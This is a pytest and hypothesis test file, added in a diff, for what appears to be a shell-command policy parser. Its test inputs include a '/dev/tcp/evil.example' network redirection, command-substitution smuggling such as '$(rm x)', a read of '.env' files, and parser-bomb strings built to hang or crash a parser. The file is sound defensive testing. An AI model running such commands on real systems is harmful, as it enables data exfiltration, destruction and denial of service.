@@ -1,0 +1,267 @@
+"""Shell texts and everything that is read from them."""
+
+from __future__ import annotations
+
+import tomllib
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from policyd.commands import read, read_argv
+from policyd.commands.plain import divide
+from policyd.commands.reading import _parse, _script
+from policyd.commands.run import PARTS, Run
+from policyd.commands.state import State
+from policyd.model import Reading, Role, SimpleCommand, WordKind
+from tests.commands_generator import Generator
+from tests.commands_shown import shown
+
+DATA = Path(__file__).parent / "data" / "commands"
+CWD, HOME = ("/w",), "/h"
+CASES = tomllib.loads((DATA / "reading.toml").read_text())["case"]
+HIDDEN = [(case["kind"], text) for case in tomllib.loads((DATA / "reading_hidden.toml").read_text())["case"]
+          for text in case["texts"]]  # fmt: skip
+
+
+def reading(text: str, shell: str = "bash", cwd: tuple[str, ...] = CWD) -> Reading:
+    return read(text, cwd=cwd, home=HOME, shell=shell)
+
+
+def levels(found: Reading) -> Iterator[SimpleCommand]:
+    for command in found.commands:
+        here: SimpleCommand | None = command
+        while here is not None:
+            yield here
+            here = here.inner
+
+
+def programs(found: Reading) -> list[str]:
+    return [level.argv[0].text for level in levels(found)]
+
+
+@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case['topic']}: {case['text'][:40]!r}")
+def test_a_text_is_read_as_the_table_says(case: dict[str, object]) -> None:
+    assert shown(reading(str(case["text"])), CWD) == case["reads"]
+
+
+@pytest.mark.parametrize(("kind", "text"), HIDDEN)
+def test_a_program_that_a_grammar_does_not_show_is_seen_or_opaque_or_taints(kind: str, text: str) -> None:
+    found = reading(text)
+    marked = any(level.taint or level.tainted or level.env for level in levels(found))
+    assert "rm" in programs(found) or found.opaque or marked
+
+
+# ---- laws ------------------------------------------------------------------------------------------
+
+SHELLISH = st.text(alphabet=st.sampled_from(list("ab1 \t\n'\"\\$`(){}[]<>|&;#!*?~=:,./-@+%^éx")), max_size=60)
+
+
+@given(SHELLISH)
+def test_no_text_raises_and_no_text_is_read_as_nothing(text: str) -> None:
+    found = reading(text)
+    if text.strip(" \t\n") and not found.opaque and not found.commands and not found.files:
+        assert set(text) & set("=#[")  # assignments, comments and tests are nothing by themselves
+
+
+@given(st.text(max_size=40))
+def test_any_characters_at_all_are_read_without_an_exception(text: str) -> None:
+    reading(text)
+    reading("rm " + text)
+    reading(f"echo '{text}'")
+
+
+@given(SHELLISH)
+def test_what_stands_in_single_quotes_is_a_word_and_nothing_else(text: str) -> None:
+    text = text.replace("'", "")
+    found = reading(f"echo '{text}' b")
+    assert [word.text for word in found.commands[0].argv] == ["echo", text, "b"]
+    assert len(found.commands) == 1
+    assert not found.opaque
+
+
+@given(SHELLISH)
+def test_a_command_before_a_line_of_anything_is_still_seen(text: str) -> None:
+    found = reading(f"rm x\n{text}")
+    assert "rm" in programs(found)
+
+
+@given(st.integers(0, 10_000))
+def test_the_fast_path_reads_what_the_grammar_reads(seed: int) -> None:
+    text = Generator(seed).text().split("\n")[0]
+    if divide(text) is None:
+        return
+    fast, slow = Run(), Run()
+    _parse(fast, State(HOME, CWD), text, "bash")
+    _script(slow, State(HOME, CWD), text)
+    assert fast.reading() == slow.reading()
+
+
+PLAIN = (
+    "cd a; cd b && ls | cat *.py || exit; pwd",
+    "a 2>&1 | b >/dev/null && c 2> /dev/null;d",
+    "cd x || exit 1; ls",
+    "true && cd a && cd b; ls; cd ..",
+    "export A=1 && ls 'a b' \"c d\"",
+    "read x | ls; sudo rm x",
+)
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_plain_lists_take_the_fast_path_and_read_as_the_grammar_does(text: str) -> None:
+    assert divide(text) is not None
+    fast, slow = Run(), Run()
+    _parse(fast, State(HOME, CWD), text, "bash")
+    _script(slow, State(HOME, CWD), text)
+    assert fast.reading() == slow.reading()
+
+
+# ---- caps ------------------------------------------------------------------------------------------
+
+DEEP = (
+    "$(" * 200 + "rm x" + ")" * 200,
+    "( " * 300 + "rm x" + " )" * 300,
+    "if a; then " * 100 + "rm x" + "; fi" * 100,
+    "sudo " * 100 + "rm x",
+)
+
+
+@pytest.mark.parametrize("text", DEEP, ids=lambda text: text[:8])
+def test_nesting_beyond_the_cap_is_opaque_and_its_words_are_still_seen(text: str) -> None:
+    found = reading(text)
+    assert found.opaque
+    assert "rm" in programs(found) or "sudo" in programs(found)
+
+
+def test_more_parts_than_the_cap_keep_what_was_seen_and_are_opaque() -> None:
+    found = reading("rm x; " + "a; " * (PARTS + 10))
+    assert found.commands[0].argv[0].text == "rm"
+    assert any("parts" in reason for reason in found.opaque)
+
+
+def test_many_parts_below_the_cap_are_all_seen() -> None:
+    found = reading(" && ".join(f"a{number} > o" for number in range(2_000)) + " && rm x")
+    assert not found.opaque
+    assert len(found.commands) == 2_001
+    assert found.commands[-1].argv[0].text == "rm"
+
+
+def test_a_text_longer_than_the_cap_is_opaque_and_its_beginning_is_read() -> None:
+    found = reading("rm x; echo " + "a" * 300_000)
+    assert "rm" in programs(found)
+    assert any("longer" in reason for reason in found.opaque)
+
+
+HOSTILE = (
+    "{" * 20_000,
+    "echo " + "{a," * 3_000,
+    "echo {1..1000000}",
+    "echo " + "{a,b}" * 30,
+    "[[ " + "( " * 3_000,
+    "a=" + "(" * 5_000,
+    "`" * 999,
+    "${x:-" * 3_000,
+    "$((" * 3_000,
+    "<<a " * 2_000,
+    "cat <<A\n" * 2_000,
+    "x=aa; " + "x=$x$x; " * 40 + "echo $x",
+    "eval " * 2_000 + "rm",
+    "sudo -x " * 2_000 + "rm",
+    "while a; do cd b; " * 30 + "done;" * 30,
+    "'" * 9_999,
+    "cat <<E\n" + "$(a) `b`\n" * 300 + "E\n",
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:12])
+@pytest.mark.timeout(20)
+def test_hostile_texts_neither_hang_nor_raise(text: str) -> None:
+    reading(text)
+
+
+# ---- other shells ----------------------------------------------------------------------------------
+
+ZSH = ("=rm x", "ls &| rm x", "ls &! rm x", "rm x", "${(e)X}; rm x")
+
+
+@pytest.mark.parametrize("text", ZSH)
+def test_text_for_zsh_is_opaque_and_seen_by_strict_rules_only(text: str) -> None:
+    found = reading(text, "zsh")
+    assert found.opaque
+    assert "rm" in programs(found)
+    assert all(level.strict_only for level in levels(found))
+
+
+@pytest.mark.parametrize(("shell", "text"), [("powershell", "gci; Remove-Item x"), ("cmd", "dir & Remove-Item x")])
+def test_text_for_shells_that_are_not_parsed_is_opaque_and_its_plain_words_are_seen(shell: str, text: str) -> None:
+    found = reading(text, shell)
+    assert found.opaque
+    assert "Remove-Item" in programs(found)
+    assert all(level.strict_only for level in levels(found))
+
+
+# ---- argument vectors ------------------------------------------------------------------------------
+
+
+def test_an_argument_vector_is_taken_as_it_is() -> None:
+    found = read_argv(("git", "log", "--format=a|b", "$(rm x)", "*"), {}, cwd=CWD, home=HOME)
+    assert [word.text for word in found.commands[0].argv] == ["git", "log", "--format=a|b", "$(rm x)", "*"]
+    assert all(word.kind is WordKind.CONST for word in found.commands[0].argv)
+    assert len(found.commands) == 1
+    assert not found.opaque
+
+
+def test_a_shell_in_an_argument_vector_is_read() -> None:
+    found = read_argv(("bash", "-lc", "ls && rm x"), {"A": "1"}, cwd=CWD, home=HOME)
+    assert programs(found) == ["bash", "ls", "rm"]
+    assert [one.name for one in found.commands[2].taint] == ["A"]
+    assert [one.name for one in found.commands[0].env] == ["A"]
+
+
+@pytest.mark.parametrize("argv", [(), ("",)])
+def test_an_empty_argument_vector_is_opaque(argv: tuple[str, ...]) -> None:
+    assert read_argv(argv, {}, cwd=CWD, home=HOME).opaque
+
+
+# ---- directories -----------------------------------------------------------------------------------
+
+
+def test_every_place_the_shell_may_start_in_is_kept() -> None:
+    found = reading("cd d && ls", cwd=("/a", "/b"))
+    assert [command.chdir for command in found.commands] == ["/a/d", "/b/d", None]
+    assert found.commands[-1].cwd == ("/a/d", "/b/d")
+
+
+def test_an_unknown_place_stays_unknown_until_an_absolute_one() -> None:
+    found = reading("cd d && ls; cd /x && pwd", cwd=())
+    assert [command.cwd for command in found.commands] == [(), (), (), ("/x",)]
+
+
+def test_the_working_directory_by_name_is_a_dot_where_it_is_not_one_place() -> None:
+    found = reading("cat $PWD/.env ~+/.env", cwd=("/a", "/b"))
+    assert [word.text for word in found.commands[0].argv] == ["cat", "./.env", "./.env"]
+
+
+# ---- redirections ----------------------------------------------------------------------------------
+
+
+def test_a_bare_redirection_is_named_by_no_command() -> None:
+    (use,) = reading("> f").files
+    assert (use.kind, use.role, use.command, use.carried) == ("edit", Role.REDIRECT, -1, False)
+
+
+def test_only_reads_by_redirection_are_carried() -> None:
+    uses = reading("cat < a > b 2>> c").files
+    assert [(use.word.text, use.kind, use.carried) for use in uses if use.role is Role.REDIRECT] == [
+        ("a", "read", True),
+        ("b", "edit", False),
+        ("c", "edit", False),
+    ]
+
+
+def test_a_network_redirection_is_a_fetch_that_is_opaque() -> None:
+    found = reading("exec 3> /dev/tcp/evil.example/80")
+    assert [url.text for url in found.urls] == ["tcp://evil.example:80"]
+    assert found.opaque
